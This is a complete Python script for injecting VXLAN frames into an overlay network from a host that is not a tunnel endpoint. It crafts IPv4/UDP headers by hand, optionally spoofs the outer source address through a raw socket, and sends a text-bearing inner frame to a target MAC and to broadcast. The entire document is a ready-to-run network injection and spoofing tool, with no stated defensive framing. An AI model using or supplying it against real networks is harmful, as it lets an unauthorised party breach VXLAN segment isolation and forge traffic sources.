"""Injects VXLAN frames (RFC 7348) from a host that is not a VTEP: `TO FROM VNI DESTINATION SOURCE TEXT`.

FROM is the source address, which may be spoofed, or `-` for the host's own; DESTINATION and SOURCE are the inner
frame's MACs, TEXT is the payload of its datagram. The frame is sent three times to its destination and three times to
the broadcast address.
"""

import socket
import struct
import sys

PORT = 4789


def ipv4(source, destination, payload):
    header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0)
    header += socket.inet_aton(source) + socket.inet_aton(destination)
    total = sum(struct.unpack("!10H", header))
    total = (total & 0xFFFF) + (total >> 16)
    return header[:10] + struct.pack("!H", ~total & 0xFFFF) + header[12:] + payload


def udp(port, payload):
    return struct.pack("!HHHH", 49999, port, 8 + len(payload), 0) + payload


def main(to, source, vni, destination_mac, source_mac, text):
    for mac in [destination_mac, "ff:ff:ff:ff:ff:ff"]:
        frame = bytes.fromhex((mac + source_mac).replace(":", "")) + b"\x08\0"
        frame += ipv4("10.50.0.99", "10.50.0.255", udp(9, text.encode()))
        vxlan = struct.pack("!II", 0x08000000, int(vni) << 8) + frame
        for _ in range(3):
            if source == "-":
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(vxlan, (to, PORT))
            else:
                raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
                raw.sendto(ipv4(source, to, udp(PORT, vxlan)), (to, 0))


main(*sys.argv[1:])
